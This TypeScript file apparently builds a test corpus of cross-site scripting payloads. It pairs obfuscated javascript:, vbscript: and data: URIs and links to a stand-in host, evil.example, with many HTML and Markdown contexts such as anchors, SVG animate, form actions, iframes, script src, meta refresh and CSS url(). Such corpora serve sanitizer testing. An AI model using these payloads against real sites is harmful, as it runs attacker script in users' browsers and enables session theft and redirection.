const scriptInBase64 = Buffer.from('<script>x("base64")</script>').toString('base64');

/** Addresses that run what they carry, spelled as browsers still read them; and some that only try. */
const addresses = [
  'javascript:x(ID)',
  'JaVaScRiPt:x(ID)',
  'javascript&colon;x(ID)',
  'java&Tab;script:x(ID)',
  'java&NewLine;script:x(ID)',
  '&#106;avascript:x(ID)',
  '&#x6A;&#x61;vascript:x(ID)',
  '&#0000106avascript:x(ID)',
  '&#1;javascript:x(ID)',
  '&#32;&#14;javascript:x(ID)',
  'javascript://a.example/%0Ax(ID)',
  'javascript:/*https://*/x(ID)',
  "javascript:'<b>'+x(ID)",
  'java\\script:x(ID)',
  'javascript%3Ax(ID)',
  'data:text/html,<script>x(ID)</script>',
  `data:text/html;base64,${scriptInBase64}`,
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="x(ID)"/>',
  'vbscript:x(ID)',
  'blob:x(ID)',
  'view-source:javascript:x(ID)',
  'feed:javascript:x(ID)',
  '//evil.example/ID',
  '/\\evil.example/ID',
  'https://evil.example/ID',
];

const inHtml = [
  (address: string) => `<a href="${address}">touch</a>`,
  (address: string) => `<A HREF='${address}' target=_self>touch</A>`,
  (address: string) =>
    `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=/favicon.svg>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=20>touch</text></a></svg>`,
  (address: string) =>
    `<svg><a><animate attributeName=href values="${address}"></animate><text y=20>t</text></a></svg>`,
  (address: string) => `<svg><use href="${address}#x"></use></svg>`,
  (address: string) => `<math><mtext href="${address}">touch</mtext></math>`,
  (address: string) => `<form action="${address}"><input type=submit value=touch></form>`,
  (address: string) => `<form><button formaction="${address}">touch</button></form>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<iframe srcdoc="<a href='${address}'>a</a>"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<script src="${address}"></script>`,
  (address: string) => `<link rel=stylesheet href="${address}">`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<base href="${address}">`,
  (address: string) => `<video src="${address}" poster="${address}"></video>`,
  (address: string) => `<style>@import "${address}"; p { background: url("${address}") }</style>`,
  (address: string) => `<p style="background: url('${address}')">a</p>`,
];

const inMarkdown = [
  (address: string) => `[touch](${address})`,
  (address: string) => `[touch](<${address}> "title")`,
  (address: string) => `[touch][ID]\n\n[ID]: <${address}>`,
  (address: string) => `<${address}>`,
  (address: string) => `![touch](${address})`,
  (address: string) => `[![touch](${address})](${address})`,
];

/** Every address in every place: half of those in html, all of those in markdown. */
export const addressPayloads: string[] = [
  ...inHtml.flatMap((place) => addresses.map(place)).filter((_payload, index) => index % 2 === 0),
  ...inMarkdown.flatMap((place) => addresses.map(place)),
];
